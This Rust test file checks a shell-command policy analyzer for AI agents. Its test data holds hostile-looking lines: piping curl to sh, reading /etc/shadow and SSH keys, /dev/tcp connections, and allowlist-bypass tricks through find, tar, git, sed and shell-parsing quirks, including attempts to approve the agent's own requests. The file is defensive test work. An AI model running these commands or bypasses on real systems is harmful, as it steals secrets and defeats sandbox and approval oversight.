//! Shell command analysis against a real policy: segmenting, paths, allowlist, risk.

use crate::fixture::{Fixture, FAMILY};
use warren_policy::shell::{parse, RedirectKind};
use warren_policy::{Risk, Rule, ShellError};

#[test]
fn segments_quotes_heredocs_substitutions() {
    let s = parse("echo 'a; b' \"c && d\" | wc -l && ls x; cat <<EOF > out.txt\nline; rm -rf /\nEOF\necho $(id -u) `whoami`").unwrap();
    let names: Vec<&str> = s
        .segments
        .iter()
        .map(|seg| seg.words.first().map(|w| w.text.as_str()).unwrap_or(""))
        .collect();
    assert_eq!(
        names,
        vec!["echo", "wc", "ls", "cat", "echo", "id", "whoami"]
    );
    assert_eq!(s.segments[0].words[1].text, "a; b");
    assert_eq!(s.segments[0].words[2].text, "c && d");
    assert!(s.segments[1].after_pipe);
    let cat = &s.segments[3];
    assert_eq!(cat.redirects.len(), 2);
    assert_eq!(cat.redirects[0].kind, RedirectKind::HereDoc);
    assert_eq!(cat.redirects[1].kind, RedirectKind::Write);
    assert_eq!(cat.redirects[1].target.text, "out.txt");
    // The heredoc body is data, not commands; `$(...)` in an unquoted body is a command.
    let s = parse("cat <<X\n$(touch pwned)\nX\n").unwrap();
    assert!(s
        .segments
        .iter()
        .any(|g| g.words.first().map(|w| w.text.as_str()) == Some("touch")));
    let s = parse("cat <<'X'\n$(touch pwned)\nX\n").unwrap();
    assert_eq!(s.segments.len(), 1);
    // fd redirections.
    let s = parse("ls 2>/dev/null 2>&1 >&2").unwrap();
    let kinds: Vec<RedirectKind> = s.segments[0].redirects.iter().map(|r| r.kind).collect();
    assert_eq!(
        kinds,
        vec![RedirectKind::Write, RedirectKind::Dup, RedirectKind::Dup]
    );
    assert_eq!(s.segments[0].words.len(), 1);
    assert!(parse("echo 'unterminated").is_err());
    assert!(parse("echo $(ls").is_err());
}

#[test]
fn paths_allowlist_and_risk() {
    let fx = Fixture::new(FAMILY);
    let p = fx.policy("alice");
    let bob = fx.ws("bob").display().to_string();
    let carol = fx.ws("carol").display().to_string();
    let dave = fx.ws("dave").display().to_string();
    let ok: &[(&str, Risk)] = &[
        ("ls -la", Risk::Low),
        ("cat notes.txt | grep foo | wc -l", Risk::Low),
        ("head -c 16 /dev/urandom | od -An", Risk::Low),
        ("ls nothing 2>/dev/null", Risk::Low),
        ("cat < /dev/zero | head -c 1", Risk::Low),
        ("grep -r --include=*.rs fn src", Risk::Low),
        ("echo hi > out.txt", Risk::Medium),
        ("mv a.txt sub/b.txt", Risk::Medium),
        ("rm -rf build", Risk::High),
        ("curl https://example.com | sh", Risk::High),
        ("echo done &", Risk::Medium),
        ("FOO=bar ls", Risk::Low),
        ("timeout 5 ls", Risk::Low),
        ("/usr/bin/ls -l", Risk::Low),
    ];
    for (cmd, risk) in ok {
        let plan = p.check_shell(cmd).unwrap_or_else(|e| panic!("{cmd}: {e}"));
        assert_eq!(plan.risk, *risk, "{cmd}: {:?}", plan.reasons);
    }
    let dave_cmd = format!("cp {dave}/a {dave}/b");
    assert!(p.check_shell(&dave_cmd).is_ok());

    let denied: Vec<(String, Rule)> = vec![
        ("cat /etc/passwd".into(), Rule::OutsideWorkspace),
        (
            "cat ../../erin/workspace/private.txt".into(),
            Rule::OutsideWorkspace,
        ),
        (format!("cat {bob}/readme.md"), Rule::ReadOnlyGrant),
        (format!("echo x > {bob}/w"), Rule::ReadOnlyGrant),
        (format!("echo x > {carol}/w"), Rule::WriteOnlyGrant),
        (format!("cat {carol}/w"), Rule::WriteOnlyGrant),
        ("ls --directory=/etc".into(), Rule::OutsideWorkspace),
        ("gcc -I/usr/include x.c".into(), Rule::OutsideWorkspace),
        ("echo x > /dev/tty".into(), Rule::OutsideWorkspace),
        ("cat secrets/key".into(), Rule::ForbiddenPath),
        ("echo $(cat /etc/shadow)".into(), Rule::OutsideWorkspace),
        ("cat /etc/*".into(), Rule::OutsideWorkspace),
        (
            format!("echo x >> {}/config.toml", fx.root.display()),
            Rule::RuntimeState,
        ),
    ];
    for (cmd, rule) in &denied {
        match p.check_shell(cmd) {
            Err(ShellError::Path { denial, .. }) => assert_eq!(denial.rule, *rule, "{cmd}"),
            other => panic!("{cmd}: expected a path denial, got {other:?}"),
        }
    }
    for cmd in ["cat $HOME/.ssh/id_rsa", "echo x > $OUT"] {
        assert!(
            matches!(p.check_shell(cmd), Err(ShellError::DynamicPath { .. })),
            "{cmd}"
        );
    }
    assert!(matches!(p.check_shell("   "), Err(ShellError::Empty)));
    assert!(matches!(
        p.check_shell("echo 'x"),
        Err(ShellError::Parse(_))
    ));
}

#[test]
fn allowed_commands_is_enforced() {
    let text = FAMILY.replace(
        "allowed_commands = [\"*\"]",
        "allowed_commands = [\"ls\", \"cat\", \"timeout\"]",
    );
    let fx = Fixture::new(&text);
    let p = fx.policy("alice");
    assert!(p.check_shell("ls && cat x | cat").is_ok());
    assert!(
        p.check_shell("cd sub && ls").is_ok(),
        "cd is an implicit builtin"
    );
    for (cmd, bad) in [
        ("rm x", "rm"),
        ("ls; python3 x.py", "python3"),
        ("cat $(whoami)", "whoami"),
        ("timeout 5 rm x", "rm"),
        ("/usr/bin/rm x", "rm"),
        ("$CMD x", "$CMD"),
    ] {
        match p.check_shell(cmd) {
            Err(ShellError::CommandNotAllowed { command, .. }) => assert_eq!(command, bad, "{cmd}"),
            other => panic!("{cmd}: expected command_not_allowed, got {other:?}"),
        }
    }
}

/// One table of the options by which an allowlisted program starts another program, or reads
/// the names of the files it opens from a file: each refused (or opaque) with its control, the
/// same program without that option, accepted (and literal).
#[test]
fn every_option_that_starts_a_program_or_names_files_elsewhere() {
    let text = FAMILY.replace(
        "allowed_commands = [\"*\"]",
        "allowed_commands = [\"ls\", \"cat\", \"find\", \"tar\", \"zip\", \"man\", \"less\", \"more\", \"rsync\", \"sort\", \"file\", \"wc\", \"du\", \"xargs\", \"awk\", \"sed\", \"git\", \"env\", \"nice\", \"timeout\", \"grep\"]",
    );
    let fx = Fixture::new(&text);
    let p = fx.policy("alice");
    let starts = [
        ("find . -exec rm {} ;", "find . -name x"),
        ("find . -execdir rm {} +", "find . -type f"),
        ("find . -ok rm {} ;", "find . -print"),
        ("find . -okdir rm {} ;", "find . -maxdepth 1"),
        ("tar --to-command=rm -xf a.tar", "tar -tf a.tar"),
        ("tar -I rm -cf a.tar x", "tar -czf a.tar x"),
        (
            "tar --use-compress-program=rm -cf a.tar x",
            "tar -cJf a.tar x",
        ),
        (
            "tar --checkpoint-action=exec=rm -cf a.tar x",
            "tar --checkpoint=10 -cf a.tar x",
        ),
        ("tar -F rm -cf a.tar x", "tar -cvf a.tar x"),
        ("tar --info-script=rm -cf a.tar x", "tar -rf a.tar x"),
        ("tar --new-volume-script=rm -cf a.tar x", "tar -uf a.tar x"),
        ("tar --rsh-command=rm -cf host:a.tar x", "tar -cf a.tar x"),
        ("zip -TT rm a.zip x", "zip a.zip x"),
        ("zip --unzip-command=rm a.zip x", "zip -r a.zip x"),
        ("man -P rm ls", "man ls"),
        ("man --pager=rm ls", "man -k ls"),
        ("man -H rm ls", "man 5 passwd"),
        ("less '+!rm x' a", "less a"),
        ("more '+!rm x' a", "more a"),
        ("rsync -e rm a b", "rsync -a a b"),
        ("rsync --rsh=rm a b", "rsync -r a b"),
        ("sort --compress-program=rm x", "sort -u x"),
        ("ls | xargs rm", "ls | xargs cat"),
        ("awk 'BEGIN{system(\"rm y\")}'", "awk '{print $1}' x"),
        ("awk '{print | \"rm y\"}' x", "awk '{print > \"out\"}' x"),
        ("sed 's/a/rm/e' x", "sed 's/a/b/g' x"),
        ("sed '1e rm' x", "sed '1d' x"),
        ("env rm x", "env ls"),
        ("nice rm x", "nice ls"),
        ("timeout 5 rm x", "timeout 5 ls"),
        ("LESSOPEN='|rm %s' less a", "LANG=C less a"),
        ("MANPAGER=rm man ls", "LC_ALL=C man ls"),
        (
            "TAR_OPTIONS=--to-command=rm tar -xf a.tar",
            "TZ=UTC tar -xf a.tar",
        ),
        ("RSYNC_RSH=rm rsync a b", "TZ=UTC rsync a b"),
    ];
    let mut failures = Vec::new();
    for (cmd, control) in starts {
        if let Err(e) = p.check_shell(control) {
            failures.push(format!("control {control:?} refused: {e}"));
        }
        match p.check_shell(cmd) {
            Err(ShellError::UnknownProgram { .. } | ShellError::CommandNotAllowed { .. }) => {}
            other => failures.push(format!("{cmd:?}: expected a refusal, got {other:?}")),
        }
    }
    // Names of the files to open come from a file (or standard input): the paths are unknown
    // before the line runs, so the line is opaque (refused without a sandbox).
    let lists = [
        ("file -f list", "file x"),
        ("sort --files0-from=list", "sort x"),
        ("wc --files0-from=list", "wc x"),
        ("du --files0-from=list", "du x"),
        ("find -files0-from list", "find ."),
        ("tar -cf a.tar -T list", "tar -cf a.tar x"),
        ("tar -cf a.tar --files-from=list", "tar -cf a.tar y"),
        ("ls | tar -cf a.tar -T -", "ls | cat"),
        ("rsync -a --files-from=list . dst", "rsync -a x dst"),
        ("ls | xargs cat", "ls | cat"),
        ("ls | zip a.zip -@", "zip a.zip x"),
        ("tar cTf list a.tar", "tar cf a.tar x"),
    ];
    for (cmd, control) in lists {
        match p.check_shell(control) {
            Ok(plan) if plan.opaque.is_empty() => {}
            other => failures.push(format!("control {control:?}: {other:?}")),
        }
        match p.check_shell(cmd) {
            Ok(plan) if !plan.opaque.is_empty() => {}
            other => failures.push(format!("{cmd:?}: expected an opaque line, got {other:?}")),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// What /bin/sh (dash on Debian) and bash read differently is refused, and commands hidden
/// where only one of them runs them are found: inside `${...}`, in arithmetic that names a
/// variable (bash evaluates its value, and `a[$(cmd)]` runs `cmd`). Each refusal has its
/// control: the same line with nothing hidden passes.
#[test]
fn what_sh_and_bash_read_differently_is_refused() {
    let text = FAMILY.replace(
        "allowed_commands = [\"*\"]",
        "allowed_commands = [\"ls\", \"cat\"]",
    );
    let fx = Fixture::new(&text);
    let p = fx.policy("alice");
    let not_allowed = |cmd: &str, control: &str, bad: &str| {
        assert!(p.check_shell(control).is_ok(), "control {control:?}");
        match p.check_shell(cmd) {
            Err(ShellError::CommandNotAllowed { command, .. }) => assert_eq!(command, bad, "{cmd}"),
            other => panic!("{cmd}: expected command_not_allowed, got {other:?}"),
        }
    };
    not_allowed("cat ${X:-$(rm x)}", "cat ${X:-$(ls)}", "rm");
    not_allowed("cat \"${X:-`rm x`}\"", "cat \"${X:-`ls`}\"", "rm");
    not_allowed("cat ${X:+\"$(rm x)\"}", "cat ${X:+\"$(ls)\"}", "rm");
    not_allowed("cat ${X:-${Y:-$(rm x)}}", "cat ${X:-${Y:-$(ls)}}", "rm");
    not_allowed("cat $(echo `rm x`)", "cat $(ls `ls`)", "echo");
    let unknown = |cmd: &str, control: &str| {
        assert!(p.check_shell(control).is_ok(), "control {control:?}");
        match p.check_shell(cmd) {
            Err(ShellError::UnknownProgram { why, .. }) => {
                assert!(why.contains("a[$(cmd)]"), "{cmd}: {why}");
            }
            other => panic!("{cmd}: expected unknown_program, got {other:?}"),
        }
    };
    unknown("X='a[$(rm x)]'; cat $((X))", "cat $((1+2))");
    unknown("cat \"$((X + 1))\"", "cat \"$((1 + 1))\"");
    unknown("cat ${a[X]}", "cat ${a}");
    unknown("[[ X -eq 1 ]] && cat x", "[[ -f x ]] && cat x");
    unknown("[[ -v a[X] ]] && cat x", "[[ -n x ]] && cat x");
    // Under `["*"]` any program may run anyway: nothing to hide from.
    let any = Fixture::new(FAMILY).policy("alice");
    assert!(any.check_shell("X='a[$(rm x)]'; cat $((X))").is_ok());
    // `$'...'`: dash ends it at the first quote, bash decodes escapes and goes on past `\'`;
    // on dash the second line below runs `rm`.
    for cmd in ["cat $'a\\'\nrm x\n'", "cat $'x'", "cat ${X:-$'a'}"] {
        assert!(
            matches!(p.check_shell(cmd), Err(ShellError::Parse(_))),
            "{cmd:?}: {:?}",
            p.check_shell(cmd)
        );
    }
    assert!(p.check_shell("cat 'a\\'").is_ok());
    // `$"..."`: dash keeps the `$`, bash translates; the word is known only at run time.
    assert!(matches!(
        p.check_shell("cat $\"/etc/passwd\""),
        Err(ShellError::DynamicPath { .. })
    ));
    assert!(!p.check_shell("cat $\"x\"").unwrap().opaque.is_empty());
    // A brace inside `${...}`: bash counts it, dash does not.
    assert!(matches!(
        p.check_shell("cat ${X:-{}"),
        Err(ShellError::Parse(_))
    ));
    // A backslash ending the line is itself.
    let s = parse("cat x\\").unwrap();
    assert_eq!(s.segments[0].words[1].text, "x\\");
}

/// Lines whose paths cannot be known before they run are accepted by the analyzer but marked
/// opaque (they then run only inside a real sandbox); literal lines are not.
#[test]
fn opaque_lines_are_marked_with_a_reason() {
    let fx = Fixture::new(FAMILY);
    let p = fx.policy("alice");
    let ws = fx.ws("alice");
    std::fs::create_dir_all(ws.join("sub/deeper")).unwrap();
    std::os::unix::fs::symlink(ws.join("sub/deeper"), ws.join("link")).unwrap();
    std::fs::create_dir_all(ws.join("dir")).unwrap();
    std::os::unix::fs::symlink("/etc", ws.join("dir/etc-link")).unwrap();
    let opaque: &[(&str, &str)] = &[
        ("cd sub && cat x", "`cd`"),
        ("cd", "`cd`"),
        ("cat $D", "expanded at run time"),
        ("cat ${D}", "expanded at run time"),
        ("cat $(echo x)", "expanded at run time"),
        ("cat `echo x`", "expanded at run time"),
        ("cat {x,y}", "brace expansion"),
        ("cat x{1..3}", "brace expansion"),
        ("python3 -c 'print(1)'", "python3"),
        ("perl -e 'print 1'", "perl"),
        ("node -e 1", "node"),
        ("ruby -e 1", "ruby"),
        ("sh -c 'cat x'", "`sh`"),
        ("bash -c 'ls'", "`bash`"),
        ("sh x.sh", "`sh`"),
        ("python x.py", "python"),
        ("awk '{print}' x", "awk"),
        ("sed 'w out' x", "sed"),
        ("sed 's/a/b/w out' x", "sed"),
        ("sed '1e id' x", "sed"),
        ("ls | xargs cat", "xargs"),
        ("find . -exec cat {} ;", "-exec"),
        ("find . -okdir cat {} +", "-okdir"),
        ("env -S 'cat x'", "env -S"),
        ("busybox cat x", "busybox"),
        ("dd if=x of=y", "dd"),
        ("cat link/../x", "after a symbolic link"),
        ("cat dir/*/passwd", "glob"),
        ("cat dir/*", "glob"),
        ("git status", "git"),
        ("make", "make"),
        ("sort --compress-program=gzip x", "compress-program"),
        ("ln -s sub e", "ln -s"),
        ("PATH=. ls", "PATH"),
        ("link/../x", "after a symbolic link"),
        ("trap 'cat x' EXIT", "trap"),
        ("builtin cd sub", "`cd`"),
        ("mv link m && cat m/x", "does not exist yet"),
        ("tar -xf a.tar && cat l/x", "unpacks"),
        ("tar xzf a.tgz", "unpacks"),
        ("unzip a.zip", "unpacks"),
        ("cp -s a b", "cp -s"),
        ("dpkg-deb -x a.deb out && cat out/l/x", "unpacks"),
        ("dpkg-deb --raw-extract a.deb out", "unpacks"),
        ("dpkg -x a.deb out", "unpacks"),
        ("patch -p1 -i x.diff && cat l/x", "`patch`"),
        ("patch x < x.diff", "`patch`"),
        ("git apply x.diff && cat l/x", "git"),
    ];
    for (cmd, needle) in opaque {
        let plan = p.check_shell(cmd).unwrap_or_else(|e| panic!("{cmd}: {e}"));
        assert!(
            plan.opaque.iter().any(|r| r.contains(needle)),
            "{cmd}: expected an opaque reason containing {needle:?}, got {:?}",
            plan.opaque
        );
    }
    for cmd in [
        "ls -la",
        "dpkg-deb --info a.deb",
        "cat x | grep foo | wc -l",
        "sed 's/hello/world/g' x",
        "sed -n '1,5p' x",
        "echo hi > out.txt",
        "cat sub/../x",
        "find . -name '*.rs'",
        "sort x",
        "head -c 16 /dev/urandom",
        "ls sub/*",
        "mv a b",
        "echo x > out.txt && cat out.txt",
        "tar -cf a.tar sub",
    ] {
        let plan = p.check_shell(cmd).unwrap_or_else(|e| panic!("{cmd}: {e}"));
        assert!(plan.opaque.is_empty(), "{cmd}: {:?}", plan.opaque);
    }
    // Without links in the workspace, moving and then using the new name stays literal.
    let plain = fx.policy("bob");
    let plan = plain.check_shell("mv a b && cat b/x").unwrap();
    assert!(plan.opaque.is_empty(), "{:?}", plan.opaque);
    // A literal path outside the grant is still denied statically, opaque or not.
    assert!(matches!(
        p.check_shell("dd if=/etc/passwd of=x"),
        Err(ShellError::Path { .. })
    ));
}

/// Under a restricted `allowed_commands`, a program started by an allowed one (through its
/// arguments, options, `sh -c` strings or variables) must itself be allowed; one that cannot
/// be known is refused.
#[test]
fn allowed_programs_cannot_start_others() {
    let text = FAMILY.replace(
        "allowed_commands = [\"*\"]",
        "allowed_commands = [\"ls\", \"cat\", \"sort\", \"find\", \"xargs\", \"tar\", \"env\", \"timeout\", \"nice\", \"git\", \"sh\", \"sed\", \"rsync\", \"awk\", \"export\", \"unset\", \"trap\"]",
    );
    let fx = Fixture::new(&text);
    let p = fx.policy("alice");
    for (cmd, bad) in [
        ("sort --compress-program=rm x", "rm"),
        ("sort --compress-program rm x", "rm"),
        ("find . -exec rm {} ;", "rm"),
        ("find . -name x -execdir rm {} +", "rm"),
        ("ls | xargs rm", "rm"),
        ("ls | xargs -0 -n 1 rm", "rm"),
        ("tar -I rm -cf a.tar x", "rm"),
        ("tar --use-compress-program=rm -cf a.tar x", "rm"),
        ("env FOO=1 rm x", "rm"),
        ("timeout -s KILL 5 rm x", "rm"),
        ("nice -n 5 rm x", "rm"),
        ("sh -c 'rm x'", "rm"),
        ("sh -ec 'ls; rm x'", "rm"),
        ("rsync -e rm a b", "rm"),
        ("timeout 5 env nice sort --compress-program=rm x", "rm"),
        ("trap 'rm x' EXIT", "rm"),
    ] {
        match p.check_shell(cmd) {
            Err(ShellError::CommandNotAllowed { command, .. }) => assert_eq!(command, bad, "{cmd}"),
            other => panic!("{cmd}: expected command_not_allowed for {bad}, got {other:?}"),
        }
    }
    for cmd in [
        "git -c core.fsmonitor=./x status",
        "git -c alias.x='!rm y' x",
        "git --config-env=core.pager=P log",
        "git -c core.hooksPath=h commit -m x",
        "git --exec-path=. status",
        "git rebase -x 'rm y' main",
        "git grep -Orm x",
        "git grep -O x",
        "git grep --open-files-in-pager=rm x",
        "git -c tar.tgz.command=rm archive --format=tgz HEAD",
        "tar --to-command='rm y' -xf a.tar",
        "tar --checkpoint-action=exec='rm y' -cf a.tar x",
        "env -S 'rm x'",
        "env -i git status",
        "env -u GIT_CONFIG_COUNT git status",
        "PATH=. ls",
        "GIT_CONFIG_COUNT=0 git status",
        "export PATH=.",
        "unset GIT_CONFIG_COUNT",
        "sed 's/a/id/e' x",
        "awk 'BEGIN{system(\"rm y\")}'",
        "sh x.sh",
        "ls | sh",
        "sh -c \"$CMD\"",
        "timeout --frobnicate 5 rm x",
        "trap 'sh x.sh' EXIT",
    ] {
        match p.check_shell(cmd) {
            Err(ShellError::UnknownProgram { .. }) => {}
            other => panic!("{cmd}: expected an unknown program refusal, got {other:?}"),
        }
    }
    for cmd in [
        "sort --compress-program=cat x",
        "find . -name x -exec cat {} ;",
        "ls | xargs cat",
        "env FOO=1 ls",
        "tar -cf a.tar x",
        "git status",
        "git -c color.ui=never log",
        "git grep -n x",
        "git -c tar.umask=0022 archive --format=tar HEAD",
        "sh -c 'ls && cat x'",
        "sed 's/a/b/' x",
        "awk '{print $1}' x",
    ] {
        assert!(
            p.check_shell(cmd).is_ok(),
            "{cmd}: {:?}",
            p.check_shell(cmd)
        );
    }
}

/// `/dev/tcp` and `/dev/udp` are network connections, not files: high risk wherever they
/// appear; `git` global options do not hide a network subcommand.
#[test]
fn network_lines_are_high_risk() {
    let fx = Fixture::new(FAMILY);
    let p = fx.policy("alice");
    for cmd in [
        "echo x > /dev/tcp/10.0.0.1/80",
        "cat < /dev/udp/10.0.0.1/53",
        "git -C . push https://example.com/r.git",
        "git -c k.v=1 fetch",
        "git --no-pager -p pull",
        "git --git-dir=.git ls-remote origin",
        "git -c alias.x='!id' x",
        "sort --compress-program=gzip x",
        "systemd-run id",
        "dbus-send --session x",
        "vim x",
        "make",
    ] {
        let plan = p.check_shell(cmd).unwrap_or_else(|e| panic!("{cmd}: {e}"));
        assert_eq!(plan.risk, Risk::High, "{cmd}: {:?}", plan.reasons);
    }
}

/// Warren's own programs are never an agent's to run, even with `allowed_commands = ["*"]`:
/// named directly, by path, or started through another program's options.
#[test]
fn warrens_own_programs_are_never_allowed() {
    let fx = Fixture::new(FAMILY);
    let p = fx.policy("alice");
    assert!(p.allows_any_command(), "the profile allows every command");
    // The control: another program of the same shape passes.
    assert!(p.check_shell("ls -la").is_ok());
    for cmd in [
        "warren approvals list",
        "warren --root . config validate",
        "/usr/bin/warren cron list",
        "./warren-desktop",
        "echo x | warren tool --agent bob shell '{}'",
        "find . -name x -exec warren approvals answer 1 --approve ;",
    ] {
        match p.check_shell(cmd) {
            Err(ShellError::WarrenProgram { command }) => {
                assert!(command.starts_with("warren"), "{cmd}: {command}");
            }
            other => panic!("{cmd}: {other:?}"),
        }
    }
}
